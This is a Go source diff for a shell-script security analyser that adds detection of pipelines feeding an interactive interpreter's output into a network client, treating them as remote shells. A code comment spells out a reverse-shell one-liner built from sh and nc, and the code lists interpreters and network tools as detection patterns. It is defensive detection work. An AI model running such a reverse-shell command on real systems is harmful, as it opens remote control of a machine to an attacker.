@@ -16,6 +16,7 @@ import (
 	"mvdan.cc/sh/v3/syntax"
 
 	"github.com/metahub-ai/attest/checks/facts/flow"
+	"github.com/metahub-ai/attest/checks/vocab"
 )
 
 // Limits on untrusted input.
@@ -170,7 +171,13 @@ func (l *lowerer) stmt(s *syntax.Stmt, depth int) []*flow.Stmt {
 	case *syntax.BinaryCmd:
 		if c.Op == syntax.Pipe || c.Op == syntax.PipeAll {
 			x := l.pipeline(c, depth)
-			return []*flow.Stmt{{Op: flow.Eval, Val: l.redirected(s, x, depth), Line: ln, Col: col}}
+			out := []*flow.Stmt{{Op: flow.Eval, Val: l.redirected(s, x, depth), Line: ln, Col: col}}
+			if shellToNet(c) {
+				// cat f | sh -i | nc host port > f: the shell's output goes
+				// out and what comes back is fed to it through the pipe
+				out = append(out, &flow.Stmt{Op: flow.Eval, Val: &flow.Expr{Op: flow.Call, X: prog("<remote-shell>"), Line: ln, Col: col}, Line: ln, Col: col})
+			}
+			return out
 		}
 		return append(l.stmt(c.X, depth+1), l.stmt(c.Y, depth+1)...)
 	case *syntax.DeclClause:
@@ -403,11 +410,13 @@ func forkBomb(f *syntax.FuncDecl) bool {
 	return self >= 2 || self >= 1 && bg
 }
 
-// interpreters run their input or arguments as code; a connection bound
-// to one is a remote shell.
-var interpreters = map[string]bool{"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true, "ash": true, "fish": true,
-	"csh": true, "tcsh": true, "python": true, "python2": true, "python3": true, "perl": true, "ruby": true, "php": true, "node": true,
-	"pwsh": true, "powershell": true, "lua": true}
+// interpreters run their input or arguments as code (the vocabulary's
+// exec-shell and exec-code programs); a connection bound to one is a
+// remote shell.
+func interpreters(name string) bool {
+	r := vocab.Call("shell", name)
+	return r != nil && (r.Kind == "exec-shell" || r.Kind == "exec-code")
+}
 
 func interpreter(x *flow.Expr) bool {
 	for x != nil && x.Op == flow.Call && x.X != nil && x.X.Op == flow.Str && strings.HasPrefix(x.X.S, "<") && len(x.Args) > 0 {
@@ -420,5 +429,41 @@ func interpreter(x *flow.Expr) bool {
 	if i := strings.LastIndexByte(n, '/'); i >= 0 {
 		n = n[i+1:]
 	}
-	return interpreters[n]
+	return interpreters(n)
+}
+
+// stages lists a pipeline's commands in order.
+func stages(b *syntax.BinaryCmd, out []*syntax.Stmt) []*syntax.Stmt {
+	for _, side := range []*syntax.Stmt{b.X, b.Y} {
+		if inner, ok := side.Cmd.(*syntax.BinaryCmd); ok && (inner.Op == syntax.Pipe || inner.Op == syntax.PipeAll) {
+			out = stages(inner, out)
+		} else {
+			out = append(out, side)
+		}
+	}
+	return out
+}
+
+// shellToNet reports a pipeline in which an interactive interpreter's
+// output is piped into a network client.
+func shellToNet(b *syntax.BinaryCmd) bool {
+	sh := false
+	for _, st := range stages(b, nil) {
+		c, ok := st.Cmd.(*syntax.CallExpr)
+		if !ok || len(c.Args) == 0 {
+			continue
+		}
+		name := c.Args[0].Lit()
+		if i := strings.LastIndexByte(name, '/'); i >= 0 {
+			name = name[i+1:]
+		}
+		if interpreters(name) {
+			sh = true
+			continue
+		}
+		if r := vocab.Call("shell", name); sh && r != nil && r.Kind == "sink" && r.Arg == "net-send" {
+			return true
+		}
+	}
+	return false
 }
